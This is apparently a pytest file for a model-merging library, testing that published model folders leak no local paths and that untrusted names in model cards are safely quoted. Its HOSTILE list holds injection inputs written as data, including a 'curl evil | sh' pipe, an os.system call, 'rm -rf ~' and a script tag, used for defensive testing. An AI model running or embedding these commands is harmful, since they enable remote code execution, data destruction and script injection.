"""What is published names no folder of this machine, and text from elsewhere does nothing in a card."""

from __future__ import annotations

import ast
import json
import shlex

import pytest
import torch
import yaml
from safetensors import safe_open
from safetensors.torch import load_file, save_file

import plait
from plait.errors import AdapterError, OutputError
from plait.merging.card import base_name, hub_id, license_of, load_with_peft, serve_with_vllm
from plait.recipes.writing import to_yaml
from plait.results.checks import check_files
from plait.results.digests import sha256
from plait.results.lock import LockedInput, new_lock, read_lock
from plait.results.public import place_name, public_file, public_text, public_values
from plait.results.quoting import block, code, prose
from plait.verification import publish
from plait.verification.public import public_copy, public_digest
from plait.verification.verify import verify_folder
from tests.adapters_on_disk import layers, write_adapter
from tests.every import every
from tests.locks import write_lock
from tests.small_models import peft_adapter, save_base

HOSTILE = [
    'org/x"); import os; os.system("id") #',
    "org/x; curl evil | sh",
    "x\n```\n# Heading\n```",
    "`rm -rf ~`",
    "</code><script>alert(1)</script>",
    "\x1b]0;title\x07\u202eevil",
    "a" * 5000,
]


@every(
    ("text", "public"),
    [
        ("/home/u/models/base", "base"),
        ("~/base", "base"),
        ("../x/base/", "base"),
        (r"C:\Users\u\base", "base"),
        (r"\\server\share\base", "base"),
        ("file:///home/u/base", "base"),
        ("/c/models--org--name/snapshots/0123/sub", "org/name"),
        ("/", "local"),
        ("~someone", "local"),
        ("org/name", "org/name"),
        ("gpt2", "gpt2"),
    ],
)
def test_a_place_is_its_name(text, public):
    assert place_name(text) == public


def test_records_name_no_path_wherever_it_stands():
    message = {
        "a": ["/home/u/x", {"b": "rows of /home/u/rows.jsonl, and ~/other/y.txt: 3"}],
        "n": 1,
        "url": "https://hub.co/org/x and a/b/c",
    }
    assert public_values(message) == {
        "a": ["x", {"b": "rows of rows.jsonl, and y.txt: 3"}], "n": 1, "url": "https://hub.co/org/x and a/b/c"
    }  # fmt: skip
    assert public_text("in /srv/my data/x here", ["/srv/my data"]) == "in my data/x here"


def test_a_configuration_keeps_what_has_a_meaning():
    config = {
        "base_model_name_or_path": "./base", "_name_or_path": "/m/base",
        "nested": {"tokenizer_file": "/t.json", "other": "/a/b/c"},
        "pad_token": "/", "target_modules": "./x", "pattern": ".*/q", "chat_template": "/a/b {{ x }}",
    }  # fmt: skip
    found = json.loads(public_file("adapter_config.json", json.dumps(config).encode()))
    assert found == config | {
        "base_model_name_or_path": "base", "_name_or_path": "base", "nested": {"tokenizer_file": "t.json", "other": "c"}
    }  # fmt: skip
    texts = {
        "made at /home/u/x/base": "made at base",
        "--in=/tmp/u/rows --out ~/runs/y": "--in=rows --out y",
        r"from C:\Users\u\base.": "from base.",
        "file:///root/u/w, then": "w, then",
        "see https://host/home/u/x": "see https://host/home/u/x",
        "yes/no, or a /b/c of a pattern": "yes/no, or a /b/c of a pattern",
    }
    labels = {"id2label": {"0": "/m/09x0r"}, "label2id": {"/m/09x0r": 0}}
    written = json.dumps({"note": list(texts), "chat_template": "{{ '/home/u/x' }}", **labels})
    expected = {"note": list(texts.values()), "chat_template": "{{ '/home/u/x' }}", **labels}
    assert json.loads(public_file("config.json", written.encode())) == expected
    for name in ("tokenizer.json", "vocab.json", "x.index.json", "adapter.safetensors"):
        data = b'{"a": "/usr/bin/x"}'
        assert public_file(name, data) == data
    with pytest.raises(ValueError, match=r"merge_metadata\.json"):
        public_file("merge_metadata.json", b"")


@pytest.fixture
def baked(tmp_path):
    base = save_base(tmp_path / "secret" / "base")
    config = json.loads((base / "config.json").read_text()) if (base / "config.json").exists() else {}
    (base / "config.json").write_text(json.dumps(config | {"_name_or_path": str(base)}))
    (base / "tokenizer_config.json").write_text(json.dumps({"name_or_path": str(base), "eos_token": "</s>"}))
    (base / "trainer_state.json").write_text(json.dumps({"best_model_checkpoint": str(base)}))
    adapter = peft_adapter(tmp_path / "secret" / "a", 1, target_modules=["q_proj"])
    return plait.bake({"a": adapter}, base=base, out=tmp_path / "secret" / "baked").folder


def published(folder, place):
    place.mkdir()
    with public_copy(folder, read_lock(folder)) as copy:
        for file in copy.iterdir():
            (place / file.name).write_bytes(file.read_bytes())
    return place


def test_a_published_result_is_whole_and_is_made_again_from_its_lock(baked, tmp_path):
    before = {p.name: p.read_bytes() for p in baked.iterdir()}
    assert "trainer_state.json" not in before
    copy = published(baked, tmp_path / "copy")
    for file in copy.iterdir():
        assert b"secret" not in file.read_bytes(), file.name
    assert {f.state for f in check_files(copy, read_lock(copy))} == {"equal"}
    places = {"a": str(baked.parent / "a"), "base_model": str(baked.parent / "base")}
    assert verify_folder(copy, inputs=places).ok
    assert verify_folder(baked).ok
    assert {p.name: p.read_bytes() for p in baked.iterdir()} == before


def test_a_published_adapter_names_its_base_alone(tmp_path):
    module = layers(1, {"q_proj": (8, 8)})
    pair = {n: write_adapter(tmp_path / n, module, seed=i, base=str(tmp_path / "base")).folder for i, n in enumerate("ab")}
    merged = plait.merge(pair, out=tmp_path / "merged").folder
    assert json.loads((merged / "adapter_config.json").read_text())["base_model_name_or_path"] == str(tmp_path / "base")
    copy = published(merged, tmp_path / "copy")
    assert json.loads((copy / "adapter_config.json").read_text())["base_model_name_or_path"] == "base"
    assert not [f.name for f in copy.iterdir() if str(tmp_path).encode() in f.read_bytes()]
    assert verify_folder(copy, inputs={n: str(f) for n, f in pair.items()}).ok


@every("name", HOSTILE)
def test_a_name_from_elsewhere_is_quoted(name):
    shown = base_name(name)
    (python,) = (line for line in load_with_peft(name, "AutoModel").splitlines() if line.startswith("model = AutoModel."))
    call = ast.parse(python).body[0].value  # type: ignore[attr-defined]
    assert [argument.value for argument in call.args] == [name]
    (bash,) = (line for line in serve_with_vllm(shown, 8).splitlines() if line.startswith("vllm"))
    assert shlex.split(bash)[:4] == ["vllm", "serve", shown, "--enable-lora"]
    assert hub_id(name) is None
    assert "\n" not in prose(name) + code(name)
    assert "\x1b" not in prose(name) + code(name) + shown
    assert "<script" not in prose(name).replace("\\<", "")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_merge_of_hostile_adapters(tmp_path, name):
    module = layers(1, {"q_proj": (8, 8)})
    pair = {n: write_adapter(tmp_path / n, module, seed=i, base=name).folder for i, n in enumerate("ab")}
    (tmp_path / "a" / "README.md").write_text(f"---\n{yaml.safe_dump({'license': name, 'tags': [name]})}---\n")
    card = (plait.merge(pair, out=tmp_path / "out").folder / "README.md").read_text()
    front = yaml.safe_load(card.split("---")[1])
    assert "base_model" not in front
    assert "license" not in front
    assert "\n# Heading" not in card
    assert "\x1b" not in card


@every("name", ["\u202eevil", "a\x1b[31m", "a\nb", "<img src=x>", "caf\xe9"])
def test_a_folder_of_any_name_has_a_card_that_shows_it(tmp_path, name):
    folder = tmp_path / name
    write_adapter(folder, layers(1, {"q_proj": (8, 8)}), seed=1)
    merged = plait.merge({"a": str(folder), "b": str(folder)}, out=tmp_path / f"of {name!a}".replace("\\", "_"))
    card = (merged.folder / "README.md").read_text()
    assert not any(character in card for character in "\u202e\x1b")
    assert ("caf\xe9" in card) == (name == "caf\xe9")


@pytest.mark.parametrize("front", ["license: mit", 'license: "mit"\nlicense_link: https://x.org/a'])
def test_a_license_is_taken_over(tmp_path, front):
    (tmp_path / "README.md").write_text(f"---\n{front}\n---\n")
    assert (license_of(tmp_path) or ())[0] == ("license", "mit")


@pytest.mark.parametrize("front", ["license: [mit]", "license: 1", "license: 'a b <x>'", ""])
def test_a_license_that_is_not_plain_is_not_known(tmp_path, front):
    (tmp_path / "README.md").write_text(f"---\n{front}\n---\n")
    assert license_of(tmp_path) is None


def test_a_block_is_not_ended_from_within():
    lines = block("a\n```\n````\nb", "yaml").splitlines()
    assert (lines[0], lines[-1]) == ("`````yaml", "`````")


def test_a_learned_recipe_is_published_without_folders(tmp_path):
    recipe = {
        "adapters": [{"name": "a", "path": str(tmp_path / "a")}, {"name": "start", "path": "./start"}],
        "method": {"name": "linear"},
    }
    folder = tmp_path / "tuned"
    folder.mkdir()
    (folder / "recipe.yaml").write_text(to_yaml(recipe))
    inputs = {a["name"]: LockedInput(path=a["path"], repo=None, commit=None, files={}) for a in recipe["adapters"]}
    lock = new_lock("tune", recipe=recipe, inputs=inputs, outputs={"recipe.yaml": "0" * 64})
    with public_copy(folder, lock) as place:
        published = yaml.safe_load((place / "recipe.yaml").read_text())
        assert check_files(place, read_lock(place))[0].state == "equal"
    assert [entry["path"] for entry in published["adapters"]] == ["a", "start"]


def test_a_name_that_no_folder_can_have(tmp_path):
    with pytest.raises(AdapterError, match="cannot be read \\(File name too long\\)"):
        read_lock(tmp_path / ("x" * 300))


def test_templates_are_published_as_they_are_and_the_folders_in_them_are_named(tmp_path):
    (tmp_path / "chat_template.jinja").write_text("{# of /home/bob/chats and /home/bob/chats #}{{ messages }} and/or /think")
    (tmp_path / "modeling.py").write_text("import os\n")
    data = (tmp_path / "chat_template.jinja").read_bytes()
    assert public_file("chat_template.jinja", data) == data
    (note,) = publish._named_folders(tmp_path, ["chat_template.jinja", "modeling.py", "config.json"])
    assert "chat_template.jinja names '/home/bob/chats', and was published as it is" in note


def test_headers_of_tensor_files_name_no_folder(tmp_path):
    folder, texts = (
        tmp_path / "out",
        {
            "format": "pt",
            "ss_output_dir": "/opt/somewhere/out",
            "ss_dataset_dirs": '{"/home/u/images": {"n": 1}}',
            "ss_comment": "a/b, 1/2",
        },
    )
    folder.mkdir()
    tensors = {"a": torch.randn(3, 5), "b": torch.arange(4)}
    save_file(tensors, folder / "model.safetensors", metadata=texts)
    save_file(tensors, folder / "other.safetensors", metadata={"format": "pt"})
    lock = read_lock(write_lock(folder))
    with public_copy(folder, lock) as place:
        file = place / "model.safetensors"
        with safe_open(file, "pt") as opened:
            found = opened.metadata()
        assert found == texts | {"ss_output_dir": "out", "ss_dataset_dirs": '{"images": {"n": 1}}'}
        assert all(torch.equal(tensor, tensors[name]) for name, tensor in load_file(file).items())
        published = read_lock(place).outputs
        assert published["model.safetensors"] == sha256(file) == public_digest(folder / "model.safetensors")
        assert (place / "other.safetensors").is_symlink()
        assert published["other.safetensors"] == sha256(folder / "other.safetensors")


def test_a_lock_without_weights_is_not_pushed(tmp_path):
    """What an older result left in the repository is removed by a push: that would be all there is."""
    (tmp_path / "README.md").write_text("# a model\n")
    (tmp_path / "config.json").write_text("{}")
    with pytest.raises(OutputError, match=r"cannot push .*: its plait\.lock names no weights"):
        publish.push_result(write_lock(tmp_path), "org/name")
